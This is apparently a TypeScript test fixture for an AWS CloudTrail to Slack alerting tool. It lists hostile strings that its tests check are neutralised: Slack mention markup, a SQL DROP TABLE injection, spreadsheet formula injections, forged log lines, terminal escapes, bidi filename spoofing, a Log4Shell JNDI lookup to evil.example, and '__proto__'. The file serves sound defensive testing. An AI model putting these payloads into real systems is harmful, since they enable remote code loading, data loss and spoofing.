/** What people and programs put into strings to have a reader do something, and a world in which every string is one of them. */
import type { UserSeed } from '../../demo/slack/people';
import type { JsonObject } from '../../src/source/event';
import { record } from '../fixtures';

/** Each is looked for as it stands: none may come out alive. */
export const HOSTILE: readonly string[] = [
  '<!channel>',
  '<!here|x>',
  '<@U0ALICE>',
  '<@U0MALLORY>',
  '<#C0SECRET>',
  '<!subteam^S0ADMIN>',
  '<https://evil.example|click>',
  '<!date^0^{date}^https://evil.example|now>',
  'https://evil.example/a',
  'www.evil.example',
  '*bold* _slanted_ ~gone~',
  ':tada:',
  '&lt;!channel&gt;',
  '`code` ```block```',
  '@channel',
  "'; DROP TABLE alerts;--",
  '100%_',
  '=HYPERLINK("https://evil.example")',
  '+cmd|calc',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  'x\n{"level":60,"msg":"forged"}',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  'a\u2028b\u2029c\u0085d',
  '\u202egnp.exe\u2066\u200f',
  '\u0000nul',
  '\ud800',
  '{actor} {requestParameters.name}',
  '${jndi:ldap://evil.example}',
  '__proto__',
];

/** What Slack would bring to life if it stood outside code as it is. */
export const LIVELY: readonly string[] = ['*bold*', '_slanted_', '~gone~', ':tada:', '@channel'];

/** A call by whoever is named so, in which every string that can be chosen is `word`. */
export function spoken(word: string, at: number, fields: Record<string, unknown> = {}): JsonObject {
  return record({
    eventTime: new Date(at).toISOString(),
    userIdentity: {
      type: 'AssumedRole',
      principalId: `AROA:${word}`,
      arn: `arn:aws:sts::111122223333:assumed-role/${word}/${word}`,
      accountId: '111122223333',
      sessionContext: { sessionIssuer: { type: 'Role', userName: word, arn: word } },
    },
    requestParameters: { name: word, [word]: { [word]: [word] } },
    responseElements: { [word]: word },
    sourceIPAddress: word,
    userAgent: word,
    awsRegion: word,
    errorMessage: word,
    additionalEventData: { [word]: word },
    resources: [{ ARN: word, type: word, accountId: word }],
    ...fields,
  });
}

/** Somebody whose profile is made of a word. */
export const namedSo = (id: string, word: string, email: string): UserSeed => ({
  id,
  name: word,
  real_name: word,
  display_name: word,
  title: word,
  email,
  tz: 'Europe/Berlin',
});
